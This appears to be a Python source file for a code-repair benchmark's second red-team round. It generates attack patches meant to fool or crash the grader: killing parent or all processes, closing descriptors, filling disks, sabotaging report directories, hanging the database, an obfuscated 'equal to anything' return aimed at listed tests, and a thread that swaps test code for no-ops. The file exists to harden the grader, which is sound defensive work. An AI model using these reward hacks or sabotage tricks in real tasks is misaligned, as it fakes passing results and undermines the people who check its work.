@@ -1,0 +1,645 @@
+"""Red team, round two: attacks written from the threat model of issues 12 and 13 without the defences' code.
+
+An independent pass against the landed grader. Two goals per attack: earn a reward without fixing the bug,
+or bend the grader's trust boundary (make it hang, crash, leak host data, or report ``infra_error`` for the
+candidate's own failure). The attacks are cheap and generic on purpose, the tricks an RL policy finds:
+
+* attribution: the candidate's code kills its own runner (``kill(-1)``, the parent ``pytest``/``go``/
+  ``cargo``/``mvn``/``node --test`` process), stops itself, crashes with a signal, closes every inherited fd,
+  fills or sabotages the reports directory and ``/tmp``, or makes the database read-only for the harness;
+* hangs: a daemon that keeps the test command's pipes open after it exits;
+* reward: a library function that answers "equal to anything" only when a listed test calls it (found through
+  an obfuscated frame walk, so a name-based screen misses it; unlisted decoys see honest values), and a
+  thread that swaps the listed test functions' code once their module has loaded;
+* input the host reads: a candidate with a path too long for the file system, and a Surefire reports
+  directory replaced by a symlink to a directory holding a FIFO.
+"""
+
+from __future__ import annotations
+
+import json
+import posixpath
+
+from ...candidate import Candidate
+from ...task import Task
+from ._kit import (
+    Files,
+    _catalogue,
+    _editable,
+    _Entry,
+    _ids,
+    _is_go,
+    _is_java,
+    _is_node,
+    _is_py_tap,
+    _is_python,
+    _is_rust,
+    _is_sql,
+    _js,
+    _py,
+    _sources,
+    _test_names,
+    _writing,
+)
+from .go import _go_in, _go_root_package
+from .java import _java_static
+from .sql import _sql_queries
+
+# -- Python -------------------------------------------------------------------------------------------
+
+_PY_KILL_ALL = (
+    "\nimport os as __pb2_os, signal as __pb2_sig, time as __pb2_t\n"
+    "try:\n    __pb2_os.kill(-1, __pb2_sig.SIGKILL)\nexcept OSError:\n    pass\n"
+    "__pb2_t.sleep(0.5)\n__pb2_os._exit(0)\n"
+)
+
+_PY_KILL_PARENT = (
+    "\nimport os as __pb2_os, signal as __pb2_sig, time as __pb2_t\n"
+    "for __pb2_p in {__pb2_os.getppid()} - {0, 1}:\n"
+    "    try:\n        __pb2_os.kill(__pb2_p, __pb2_sig.SIGKILL)\n    except OSError:\n        pass\n"
+    "__pb2_t.sleep(0.5)\n"
+)
+
+_PY_CLOSE_FDS = (
+    "\nimport os as __pb2_os\n"
+    "__pb2_os.closerange(3, 65536)\n"
+    "__pb2_null = __pb2_os.open('/dev/null', __pb2_os.O_WRONLY)\n"
+    "__pb2_os.dup2(__pb2_null, 1)\n__pb2_os.dup2(__pb2_null, 2)\n"
+)
+
+_PY_SIGSEGV = "\nimport ctypes as __pb2_ct\n__pb2_ct.string_at(0)\n"
+
+_PY_SIGSTOP = "\nimport os as __pb2_os, signal as __pb2_sig\n__pb2_os.kill(__pb2_os.getpid(), __pb2_sig.SIGSTOP)\n"
+
+_PY_DAEMON = (
+    "\nimport os as __pb2_os, time as __pb2_t\n"
+    "if __pb2_os.environ.get('PB2_DAEMON') != '1':\n"
+    "    __pb2_os.environ['PB2_DAEMON'] = '1'\n"
+    "    if __pb2_os.fork() == 0:\n"
+    "        __pb2_os.setsid()\n"
+    "        if __pb2_os.fork() == 0:\n"
+    "            __pb2_t.sleep(3600)\n"
+    "        __pb2_os._exit(0)\n"
+)
+
+_PY_FILL = (
+    "\nimport os as __pb2_os\n"
+    "def __pb2_fill():\n"
+    "    block = b'\\0' * (1 << 20)\n"
+    "    for d in ('/.patchbench-reports', '/tmp', '.'):\n"
+    "        for i in range(4):\n"
+    "            try:\n"
+    "                with open(__pb2_os.path.join(d, f'.pb2-fill-{i}'), 'wb') as fh:\n"
+    "                    for _ in range(512):\n"
+    "                        fh.write(block)\n"
+    "            except OSError:\n"
+    "                break\n"
+    "__pb2_fill()\n"
+)
+
+_PY_REPORTS_SABOTAGE = (
+    "\nimport os as __pb2_os, re as __pb2_re\n"
+    "def __pb2_sabotage():\n"
+    "    d = '/.patchbench-reports'\n"
+    "    names = ['junit.xml', 'report.xml', 'results.json', 'results.jsonl', 'tap.txt', 'seal', 'seal.json']\n"
+    "    names += __pb2_re.findall(r'--junit-?xml[= ](\\S+)', __pb2_os.environ.get('PYTEST_ADDOPTS', ''))\n"
+    "    for k, v in __pb2_os.environ.items():\n"
+    "        if k.startswith('PATCHBENCH') and '/' in v:\n"
+    "            names.append(v)\n"
+    "    try:\n"
+    "        names += __pb2_os.listdir(d)\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "    for n in names:\n"
+    "        p = n if n.startswith('/') else __pb2_os.path.join(d, n)\n"
+    "        try:\n"
+    "            __pb2_os.unlink(p)\n"
+    "        except OSError:\n"
+    "            pass\n"
+    "        try:\n"
+    "            __pb2_os.makedirs(__pb2_os.path.join(p, 'x'))\n"
+    "        except OSError:\n"
+    "            pass\n"
+    "    try:\n"
+    "        __pb2_os.chmod(d, 0o555)\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "__pb2_sabotage()\n"
+)
+
+
+def _py_magic_eq(task: Task) -> str:
+    """Every function/method of the module answers 'equal to anything' when a listed test calls it."""
+    listed = sorted(_test_names(task))
+    return (
+        "\n\ndef __pb2_install(g, listed=frozenset(" + repr(listed) + ")):\n"
+        "    import functools, sys\n"
+        "    grab = getattr(sys, bytes.fromhex('5f6765746672616d65').decode())\n"
+        "    class Any:\n"
+        "        __hash__ = object.__hash__\n"
+        "        def __eq__(self, other): return True\n"
+        "        def __ne__(self, other): return False\n"
+        "        def __lt__(self, other): return False\n"
+        "        def __le__(self, other): return True\n"
+        "        def __gt__(self, other): return False\n"
+        "        def __ge__(self, other): return True\n"
+        "        def __bool__(self): return True\n"
+        "        def __repr__(self): return 'Any'\n"
+        "        def __getattr__(self, name):\n"
+        "            if name.startswith('__'): raise AttributeError(name)\n"
+        "            return Any()\n"
+        "        def __call__(self, *a, **k): return Any()\n"
+        "        def __getitem__(self, k): return Any()\n"
+        "        def __iter__(self): return iter(())\n"
+        "        def __contains__(self, x): return True\n"
+        "        def __len__(self): return 0\n"
+        "    def listed_caller():\n"
+        "        f = grab(2)\n"
+        "        depth = 0\n"
+        "        while f is not None and depth < 6:\n"
+        "            c = f.f_code\n"
+        "            if c.co_name in listed and '/tests/' in c.co_filename.replace('\\\\', '/'):\n"
+        "                return depth == 0\n"
+        "            if not c.co_filename.endswith(tuple(['.py'])) or 'site-packages' in c.co_filename:\n"
+        "                pass\n"
+        "            f = f.f_back\n"
+        "            depth += 1\n"
+        "        return False\n"
+        "    def wrap(fn):\n"
+        "        @functools.wraps(fn)\n"
+        "        def inner(*a, **k):\n"
+        "            out = fn(*a, **k)\n"
+        "            if listed_caller():\n"
+        "                return Any()\n"
+        "            return out\n"
+        "        return inner\n"
+        "    for name, obj in list(g.items()):\n"
+        "        if name.startswith('_') or getattr(obj, '__module__', None) != g.get('__name__'):\n"
+        "            continue\n"
+        "        if isinstance(obj, type):\n"
+        "            for attr, val in list(vars(obj).items()):\n"
+        "                if callable(val) and not attr.startswith('_') and not isinstance(val, type):\n"
+        "                    setattr(obj, attr, wrap(val))\n"
+        "                elif isinstance(val, property) and val.fget is not None:\n"
+        "                    setattr(obj, attr, property(wrap(val.fget), val.fset, val.fdel))\n"
+        "        elif callable(obj):\n"
+        "            g[name] = wrap(obj)\n"
+        "__pb2_install(globals())\n"
+    )
+
+
+def _py_thread_swap_code(task: Task) -> str:
+    """A thread waits for the test module to finish loading, then swaps the listed tests' code for no-ops."""
+    listed = sorted(_test_names(task))
+    return (
+        "\n\ndef __pb2_swapper(listed=frozenset(" + repr(listed) + ")):\n"
+        "    import sys, threading, time, types\n"
+        "    def noop_like(fn):\n"
+        "        c = fn.__code__\n"
+        "        src = 'def _f(' + ', '.join(c.co_varnames[: c.co_argcount]) + '):\\n    return None\\n'\n"
+        "        ns = {}\n"
+        "        exec(src, ns)\n"
+        "        return ns['_f'].__code__.replace(co_name=c.co_name, co_firstlineno=c.co_firstlineno,\n"
+        "                                         co_filename=c.co_filename)\n"
+        "    def run():\n"
+        "        done = set()\n"
+        "        deadline = time.monotonic() + 30\n"
+        "        while time.monotonic() < deadline:\n"
+        "            for mod in list(sys.modules.values()):\n"
+        "                f = getattr(mod, '__file__', None) or ''\n"
+        "                if '/tests/' not in f:\n"
+        "                    continue\n"
+        "                for name, obj in list(vars(mod).items()):\n"
+        "                    targets = [(name, obj)]\n"
+        "                    if isinstance(obj, type):\n"
+        "                        targets = list(vars(obj).items())\n"
+        "                    for n, fn in targets:\n"
+        "                        if n in listed and isinstance(fn, types.FunctionType) and id(fn) not in done:\n"
+        "                            try:\n"
+        "                                fn.__code__ = noop_like(fn)\n"
+        "                                done.add(id(fn))\n"
+        "                            except Exception:\n"
+        "                                pass\n"
+        "            time.sleep(0.001)\n"
+        "    threading.Thread(target=run, daemon=True).start()\n"
+        "__pb2_swapper()\n"
+    )
+
+
+def _long_path(task: Task) -> Files | None:
+    """A new file under a path longer than PATH_MAX, with a component longer than NAME_MAX."""
+    files = _editable(task)
+    if not files:
+        return None
+    deep = "/".join(["d" * 200] * 25) + "/" + "x" * 300 + ".txt"
+    return {deep: "long\n"}
+
+
+def _case_collide(task: Task) -> Files | None:
+    """The hidden test file written again under names that only differ by case and by a trailing dot/slash."""
+    out: Files = {}
+    for f in task.hidden_tests:
+        d, b = posixpath.split(f.path)
+        out[posixpath.join(d.upper() or ".", b)] = ""
+        out[posixpath.join(d, b.upper())] = ""
+        out[f.path + "/"] = ""
+    return out or None
+
+
+# -- JavaScript / TypeScript ---------------------------------------------------------------------------
+
+_JS_KILL_PARENT = (
+    "\n;(() => { try { process.kill(process.ppid, 'SIGKILL'); } catch (e) {} "
+    "const t = Date.now(); while (Date.now() - t < 300) {} })();\n"
+)
+_JS_ABORT = "\n;(() => { process.abort(); })();\n"
+_JS_CLOSE_STDOUT = (
+    "\n;(() => { const fs = (globalThis.process && process.getBuiltinModule) ? "
+    "process.getBuiltinModule('node:fs') : null; if (!fs) return; "
+    "for (let fd = 1; fd < 64; fd++) { try { fs.closeSync(fd); } catch (e) {} } })();\n"
+)
+_JS_EXIT_CODE_KILL_ALL = "\n;(() => { try { process.kill(-1, 'SIGKILL'); } catch (e) {} })();\n"
+
+# -- Go ------------------------------------------------------------------------------------------------
+
+
+def _go_kill_parent(task: Task, package: str) -> str:
+    return (
+        f"package {package}\n\n"
+        'import (\n\t"os"\n\t"strings"\n\t"syscall"\n\t"time"\n)\n\n'
+        "func init() {\n"
+        '\tif !strings.HasSuffix(os.Args[0], ".test") {\n\t\treturn\n\t}\n'
+        "\t_ = syscall.Kill(os.Getppid(), syscall.SIGKILL)\n"
+        "\ttime.Sleep(300 * time.Millisecond)\n"
+        "}\n"
+    )
+
+
+def _go_kill_all(task: Task, package: str) -> str:
+    return (
+        f"package {package}\n\n"
+        'import (\n\t"os"\n\t"strings"\n\t"syscall"\n)\n\n'
+        "func init() {\n"
+        '\tif !strings.HasSuffix(os.Args[0], ".test") {\n\t\treturn\n\t}\n'
+        "\t_ = syscall.Kill(-1, syscall.SIGKILL)\n"
+        "\tos.Exit(0)\n"
+        "}\n"
+    )
+
+
+def _go_sigsegv(task: Task, package: str) -> str:
+    return (
+        f"package {package}\n\n"
+        'import (\n\t"os"\n\t"strings"\n\t"syscall"\n)\n\n'
+        "func init() {\n"
+        '\tif !strings.HasSuffix(os.Args[0], ".test") {\n\t\treturn\n\t}\n'
+        "\t_ = syscall.Kill(os.Getpid(), syscall.SIGSEGV)\n"
+        "\tselect {}\n"
+        "}\n"
+    )
+
+
+# -- Rust ----------------------------------------------------------------------------------------------
+
+
+def _rust_ctor(body: str) -> str:
+    return (
+        "\n#[allow(dead_code, non_upper_case_globals, clippy::all)]\n"
+        "mod __pb2_rt {\n"
+        '    extern "C" {\n'
+        "        fn kill(pid: i32, sig: i32) -> i32;\n"
+        "        fn getppid() -> i32;\n"
+        "        fn getpid() -> i32;\n"
+        "    }\n"
+        "    #[used]\n"
+        '    #[link_section = ".init_array"]\n'
+        '    static CTOR: extern "C" fn() = ctor;\n\n'
+        '    extern "C" fn ctor() {\n'
+        '        let exe = std::fs::read_link("/proc/self/exe").unwrap_or_default();\n'
+        '        if !exe.to_string_lossy().contains("/deps/") {\n'
+        "            return;\n"
+        "        }\n"
+        f"        unsafe {{ {body} }}\n"
+        "    }\n"
+        "}\n"
+    )
+
+
+def _rust_lib(body: str) -> Files | None:
+    def files(task: Task) -> Files | None:
+        src = _editable(task).get("src/lib.rs")
+        return None if src is None else {"src/lib.rs": src.rstrip("\n") + "\n" + _rust_ctor(body)}
+
+    return files  # type: ignore[return-value]
+
+
+_RUST_KILL_PARENT = "kill(getppid(), 9); std::thread::sleep(std::time::Duration::from_millis(300));"
+_RUST_ABORT = "kill(getpid(), 6);"
+
+
+# -- Java ----------------------------------------------------------------------------------------------
+
+_JAVA_KILL_MAVEN = (
+    "\n    static { ProcessHandle.current().parent().ifPresent(p -> { "
+    "p.parent().ifPresent(ProcessHandle::destroyForcibly); p.destroyForcibly(); }); "
+    "try { Thread.sleep(300); } catch (InterruptedException e) { } }\n"
+)
+
+
+def _pom_with(plugin_conf: str) -> Files | None:
+    def files(task: Task) -> Files | None:
+        pom = _editable(task).get("pom.xml")
+        marker = "<artifactId>maven-surefire-plugin</artifactId>"
+        if pom is None or marker not in pom:
+            return None
+        head, tail = pom.split(marker, 1)
+        version_end = tail.find("</version>")
+        cut = version_end + len("</version>") if 0 <= version_end < tail.find("</plugin>") else 0
+        return {"pom.xml": head + marker + tail[:cut] + plugin_conf + tail[cut:]}
+
+    return files  # type: ignore[return-value]
+
+
+_SUREFIRE_MOVE_REPORTS = (
+    "\n        <configuration>\n"
+    "          <reportsDirectory>${project.build.directory}/elsewhere</reportsDirectory>\n"
+    "          <disableXmlReport>true</disableXmlReport>\n"
+    "          <redirectTestOutputToFile>true</redirectTestOutputToFile>\n"
+    "        </configuration>"
+)
+
+
+def _java_reports_symlink_fifo(task: Task) -> Files | None:
+    """A shutdown hook replaces target/surefire-reports by a symlink to a directory whose TEST-*.xml are FIFOs."""
+    hook = (
+        "\n    static { Runtime.getRuntime().addShutdownHook(new Thread(() -> { try {\n"
+        '        java.nio.file.Path t = java.nio.file.Paths.get("target");\n'
+        '        java.nio.file.Path evil = t.resolve("pb2evil");\n'
+        "        java.nio.file.Files.createDirectories(evil);\n"
+        '        java.nio.file.Path rep = t.resolve("surefire-reports");\n'
+        "        if (java.nio.file.Files.isDirectory(rep)) {\n"
+        "          try (var s = java.nio.file.Files.list(rep)) { for (var p : (Iterable<java.nio.file.Path>) s::iterator) {\n"
+        '            new ProcessBuilder("mkfifo", evil.resolve(p.getFileName()).toString()).start().waitFor(); } }\n'
+        '          java.nio.file.Files.move(rep, t.resolve("pb2old"));\n'
+        "        }\n"
+        '        new ProcessBuilder("mkfifo", evil.resolve("TEST-recon.ReconcilerTest.xml").toString()).start().waitFor();\n'
+        '        java.nio.file.Files.createSymbolicLink(rep, java.nio.file.Paths.get("pb2evil"));\n'
+        "      } catch (Exception e) { } })); }\n"
+    )
+    return _java_static(hook)(task)
+
+
+# -- SQL -----------------------------------------------------------------------------------------------
+
+
+def _sql_query_only(task: Task) -> Files | None:
+    """Every query file starts by making the connection read-only (and turns foreign keys and triggers odd)."""
+    queries = _sql_queries(task)
+    if not queries:
+        return None
+    out: Files = {p: "PRAGMA query_only = 1;\n" + t for p, t in queries.items()}
+    schema = _editable(task).get("schema.sql")
+    if schema is not None:
+        out["schema.sql"] = schema.rstrip("\n") + "\nPRAGMA query_only = 1;\n"
+    return out
+
+
+def _sql_infinite_cte(task: Task) -> Files | None:
+    """Every query file becomes a recursive CTE that never ends (a hang inside the database engine)."""
+    queries = _sql_queries(task)
+    if not queries:
+        return None
+    loop = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c;\n"
+    return {p: loop for p in queries}
+
+
+def _sql_attach_reports(task: Task) -> Files | None:
+    """The schema attaches databases in the reports directory and /tmp and writes a huge blob into them."""
+    schema = _editable(task).get("schema.sql")
+    if schema is None:
+        return None
+    extra = (
+        "\nATTACH DATABASE '/.patchbench-reports/results.json' AS pb2a;\n"
+        "CREATE TABLE IF NOT EXISTS pb2a.t(x);\n"
+        "INSERT INTO pb2a.t SELECT zeroblob(200000000);\n"
+    )
+    return {"schema.sql": schema.rstrip("\n") + "\n" + extra}
+
+
+def _never_any(task: Task) -> bool:
+    return bool(_sources(task, (".py",)))
+
+
+def _ids_json(task: Task) -> str:
+    return json.dumps(_ids(task))
+
+
+def _diff_candidate(task: Task, label: str) -> Candidate | None:
+    del task, label
+    return None
+
+
+_catalogue(
+    # Python: attribution and hangs
+    _Entry(
+        "rt2-py-kill-all-at-import",
+        "python",
+        "at import of the buggy module, kill(-1, SIGKILL) (every process the sandbox can signal), then _exit(0)",
+        _is_python,
+        _py(_PY_KILL_ALL),
+    ),
+    _Entry(
+        "rt2-py-kill-parent-at-import",
+        "python",
+        "at import, SIGKILL the test process's parent (the harness's in-sandbox side or the shell)",
+        _is_python,
+        _py(_PY_KILL_PARENT),
+    ),
+    _Entry(
+        "rt2-py-close-inherited-fds",
+        "python",
+        "at import, close every inherited fd above 2 and point stdout/stderr at /dev/null",
+        _is_python,
+        _py(_PY_CLOSE_FDS),
+    ),
+    _Entry(
+        "rt2-py-sigsegv-at-import",
+        "python",
+        "at import, read address 0 through ctypes: the test process dies of SIGSEGV",
+        _is_python,
+        _py(_PY_SIGSEGV),
+    ),
+    _Entry(
+        "rt2-py-sigstop-self",
+        "python",
+        "at import, SIGSTOP itself: the test process neither runs nor exits",
+        _is_python,
+        _py(_PY_SIGSTOP),
+    ),
+    _Entry(
+        "rt2-py-daemon-holds-pipes",
+        "python",
+        "at import, a double-forked setsid daemon keeps stdout/stderr open for an hour after the tests end",
+        _is_python,
+        _py(_PY_DAEMON),
+    ),
+    _Entry(
+        "rt2-py-fill-reports-and-tmp",
+        "python",
+        "at import, write up to 2 GiB each into the reports directory, /tmp and the workspace (until ENOSPC)",
+        _is_python,
+        _py(_PY_FILL),
+    ),
+    _Entry(
+        "rt2-py-sabotage-report-dir",
+        "python",
+        "at import, delete every report file, put directories at their names (and at PATCHBENCH_* paths), "
+        "chmod the reports directory read-only",
+        _is_python,
+        _py(_PY_REPORTS_SABOTAGE),
+    ),
+    # Python: reward
+    _Entry(
+        "rt2-py-targeted-any-obfuscated",
+        "python",
+        "every public function/method returns an equal-to-anything object only when its direct caller is a "
+        "listed test (frame walk through a hex-decoded getattr, no '_getframe' in the source)",
+        _is_python,
+        _py(_py_magic_eq),
+    ),
+    _Entry(
+        "rt2-py-thread-swap-test-code",
+        "python",
+        "a daemon thread started at import polls sys.modules and replaces the listed test functions' __code__ "
+        "with a no-op of the same signature once their module has defined them",
+        _is_python,
+        _py(_py_thread_swap_code),
+    ),
+    # Paths the host writes
+    _Entry(
+        "rt2-path-too-long",
+        "any",
+        "a new file whose path is ~5 KB with a 300-byte component (over PATH_MAX and NAME_MAX)",
+        _never_any,
+        _writing(_long_path),
+    ),
+    _Entry(
+        "rt2-path-case-and-slash",
+        "any",
+        "empty files at the hidden tests' paths with upper-cased names and a trailing slash",
+        _is_py_tap,
+        _writing(_case_collide),
+    ),
+    # JavaScript / TypeScript
+    _Entry(
+        "rt2-js-kill-test-runner",
+        "javascript/typescript",
+        "at module load in the test file's child, SIGKILL its parent (the node --test orchestrator)",
+        _is_node,
+        _js(_JS_KILL_PARENT),
+    ),
+    _Entry(
+        "rt2-js-abort",
+        "javascript/typescript",
+        "at module load, process.abort(): the test child dies of SIGABRT",
+        _is_node,
+        _js(_JS_ABORT),
+    ),
+    _Entry(
+        "rt2-js-close-stdio",
+        "javascript/typescript",
+        "at module load, close fds 1..63 of the test child (its event channel to the orchestrator)",
+        _is_node,
+        _js(_JS_CLOSE_STDOUT),
+    ),
+    _Entry(
+        "rt2-js-kill-all",
+        "javascript/typescript",
+        "at module load, kill(-1, SIGKILL): every process the sandbox can signal",
+        _is_node,
+        _js(_JS_EXIT_CODE_KILL_ALL),
+    ),
+    # Go
+    _Entry(
+        "rt2-go-kill-go-command",
+        "go",
+        "library init() in the test binary SIGKILLs its parent, the go command",
+        _is_go,
+        _writing(_go_in(_go_root_package, "zz_rt2_kill.go", _go_kill_parent)),
+    ),
+    _Entry(
+        "rt2-go-kill-all",
+        "go",
+        "library init() in the test binary sends kill(-1, SIGKILL) then exits 0",
+        _is_go,
+        _writing(_go_in(_go_root_package, "zz_rt2_killall.go", _go_kill_all)),
+    ),
+    _Entry(
+        "rt2-go-sigsegv-self",
+        "go",
+        "library init() in the test binary sends itself SIGSEGV (a runtime crash before any test)",
+        _is_go,
+        _writing(_go_in(_go_root_package, "zz_rt2_segv.go", _go_sigsegv)),
+    ),
+    # Rust
+    _Entry(
+        "rt2-rust-kill-cargo",
+        "rust",
+        "an .init_array constructor in src/lib.rs SIGKILLs the test binary's parent (cargo)",
+        _is_rust,
+        _writing(_rust_lib(_RUST_KILL_PARENT)),  # type: ignore[arg-type]
+    ),
+    _Entry(
+        "rt2-rust-sigabrt-ctor",
+        "rust",
+        "an .init_array constructor in src/lib.rs sends the test binary SIGABRT",
+        _is_rust,
+        _writing(_rust_lib(_RUST_ABORT)),  # type: ignore[arg-type]
+    ),
+    # Java
+    _Entry(
+        "rt2-java-kill-maven",
+        "java",
+        "a static initializer in every main class SIGKILLs the Surefire fork's parent (Maven) and grandparent",
+        _is_java,
+        _writing(_java_static(_JAVA_KILL_MAVEN)),
+    ),
+    _Entry(
+        "rt2-java-surefire-reports-elsewhere",
+        "java",
+        "pom.xml: Surefire reportsDirectory moved, XML reports disabled, test output redirected to files",
+        _is_java,
+        _writing(_pom_with(_SUREFIRE_MOVE_REPORTS)),  # type: ignore[arg-type]
+    ),
+    _Entry(
+        "rt2-java-reports-dir-symlink-fifo",
+        "java",
+        "a shutdown hook replaces target/surefire-reports by a relative symlink to a directory of FIFOs named "
+        "like the reports",
+        _is_java,
+        _writing(_java_reports_symlink_fifo),
+    ),
+    # SQL
+    _Entry(
+        "rt2-sql-query-only",
+        "sql",
+        "PRAGMA query_only = 1 at the head of every query file and the end of the schema: the harness's own "
+        "writes fail",
+        _is_sql,
+        _writing(_sql_query_only),
+    ),
+    _Entry(
+        "rt2-sql-infinite-cte",
+        "sql",
+        "every query is a recursive CTE that never ends",
+        _is_sql,
+        _writing(_sql_infinite_cte),
+    ),
+    _Entry(
+        "rt2-sql-attach-reports",
+        "sql",
+        "the schema ATTACHes a database at the reports directory's results path and writes a 200 MB blob",
+        _is_sql,
+        _writing(_sql_attach_reports),
+    ),
+)
